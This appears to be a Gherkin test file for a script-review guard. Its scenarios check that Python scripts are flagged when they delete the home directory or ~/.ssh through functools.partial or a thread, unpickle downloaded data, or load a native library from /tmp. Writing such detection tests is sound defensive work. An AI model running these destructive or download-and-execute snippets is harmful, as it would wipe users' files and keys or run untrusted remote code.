@script-review
Feature: script pre-review follows calls that call another
  A Python helper may hand a function to `functools.partial`, start it on a thread or a process,
  unpickle data, or load a native library. The review judges the call that finally runs: the
  partial is the function, the thread runs its target with its arguments, unpickling downloaded
  data runs it, and a library loaded from a temporary directory is code the script brought.

  Scenario: a partial of rmtree given the home directory deletes the home
    Given a project file "tidy.py" containing:
      """
      import functools
      import shutil
      from pathlib import Path
      wipe = functools.partial(shutil.rmtree, ignore_errors=True)
      wipe(str(Path.home()))
      """
    When I run "terraphim-agent guard review-script --json tidy.py"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "delete-outside"

  Scenario: a thread started on a function of the script runs it with the thread's arguments
    Given a project file "bg.py" containing:
      """
      import shutil
      import threading
      from pathlib import Path

      def purge(path):
          shutil.rmtree(path)

      threading.Thread(target=purge, args=(Path.home() / ".ssh",)).start()
      """
    When I run "terraphim-agent guard review-script --json bg.py"
    Then the JSON field "verdict" is "dangerous"

  Scenario: a worker process that prints its argument is clean
    Given a project file "pool.py" containing:
      """
      import multiprocessing

      def work(n):
          print(n * n)

      multiprocessing.Process(target=work, args=(3,)).start()
      """
    When I run "terraphim-agent guard review-script --json pool.py"
    Then the JSON field "verdict" is "clean"

  Scenario: unpickling downloaded data runs downloaded code
    Given a project file "model.py" containing:
      """
      import pickle
      import urllib.request
      model = pickle.loads(urllib.request.urlopen("https://models.example.net/m.pkl").read())
      """
    When I run "terraphim-agent guard review-script --json model.py"
    Then the JSON field "verdict" is "dangerous"
    And the JSON field "findings.0.rule" is "download-to-exec"

  Scenario: a native library loaded from a temporary directory is dangerous, the system's by name is not
    Given a project file "hook.py" containing:
      """
      import ctypes
      lib = ctypes.CDLL("/tmp/hook.so")
      lib.run()
      """
    And a project file "pid.py" containing:
      """
      import ctypes
      print(ctypes.CDLL("libc.so.6").getpid())
      """
    When I run "terraphim-agent guard review-script --json hook.py"
    Then the JSON field "verdict" is "dangerous"
    When I run "terraphim-agent guard review-script --json pid.py"
    Then the JSON field "verdict" is "clean"
